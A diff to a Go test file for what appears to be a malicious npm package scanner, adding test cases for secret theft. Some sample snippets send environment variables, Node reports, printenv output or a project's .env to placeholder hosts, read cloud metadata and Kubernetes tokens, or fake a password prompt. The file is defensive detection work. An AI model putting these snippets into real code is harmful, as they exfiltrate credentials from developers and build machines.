@@ -13,6 +13,11 @@ func TestEnvHarvest(t *testing.T) {
 		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
 		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
+		// the environment by other means: Node's report, printenv's output
+		{"report_sent", map[string]string{"index.js": `const r = process.report.getReport(); fetch("https://c.example.invalid/r", {method: "POST", body: JSON.stringify(r)})`}, finding.SeverityCritical},
+		{"printenv_sent", map[string]string{"index.js": `const out = require("child_process").execSync("printenv").toString(); fetch("https://c.example.invalid/e", {method: "POST", body: out})`}, finding.SeverityCritical},
+		{"report_written", map[string]string{"index.js": `require("fs").writeFileSync("report.json", JSON.stringify(process.report.getReport().header))`}, finding.SeverityNone},
+		{"git_output_sent", map[string]string{"index.js": `const v = require("child_process").execSync("git describe").toString(); fetch("https://c.example.invalid/v", {method: "POST", body: v})`}, finding.SeverityNone},
 		// names read through a list; in a bundle only the list next to the read
 		{"indexed_list", map[string]string{"index.js": `for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
 		{"indexed_far_enum", map[string]string{"index.js": `const get = (k) => globalThis.process.env[k];` + strings.Repeat("\n// padding", 7000) +
@@ -69,6 +74,18 @@ func TestFileAccess(t *testing.T) {
 			"i.js": "require(\"child_process\").execSync(`osascript -e 'display dialog \"Password:\" default answer \"\" with hidden answer'`)"}, finding.SeverityHigh},
 		{"runner_memory", map[string]string{"index.js": "const fs = require(\"fs\"); const pid = find(\"Runner.Worker\"); fs.readFileSync(`/proc/${pid}/maps`); fs.createReadStream(`/proc/${pid}/mem`)"}, finding.SeverityHigh},
 		{"proc_stat", map[string]string{"index.js": "require(\"fs\").readFileSync(`/proc/${pid}/stat`, \"utf8\")"}, finding.SeverityNone},
+		// machine credentials: cloud metadata, in-cluster tokens, gh's hosts.yml
+		{"imds_credentials", map[string]string{"index.js": `require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityMedium},
+		{"gcp_metadata_read", map[string]string{"index.js": `const fs = require("fs"); fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {headers: {"Metadata-Flavor": "Google"}}); fs.readFileSync(x)`}, finding.SeverityHigh},
+		{"k8s_token", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityHigh},
+		{"sdk_imds", map[string]string{"index.js": `if (process.env.AWS_EC2_METADATA_DISABLED !== "true") require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
+		{"in_cluster_client", map[string]string{"index.js": `if (process.env.KUBERNETES_SERVICE_HOST) token = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityLow},
+		// the project's .env, read by install-time code that talks to the network
+		{"dotenv_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const e = require("fs").readFileSync(require("path").join(process.env.INIT_CWD, ".env"), "utf8"); fetch("https://c.example.invalid/d", {method: "POST", body: e})`}, finding.SeverityHigh},
+		{"dotenv_loader", map[string]string{"index.js": `const e = require("fs").readFileSync(require("path").join(process.cwd(), ".env"), "utf8"); module.exports = parse(e)`}, finding.SeverityNone},
+		{"dotenv_example_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const e = require("fs").readFileSync(".env.example", "utf8"); fetch("https://registry.example.invalid/x")`}, finding.SeverityNone},
 		{"gh_auth_status", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("gh auth status")`}, finding.SeverityNone},
 		// the path in pieces, as stealers write it
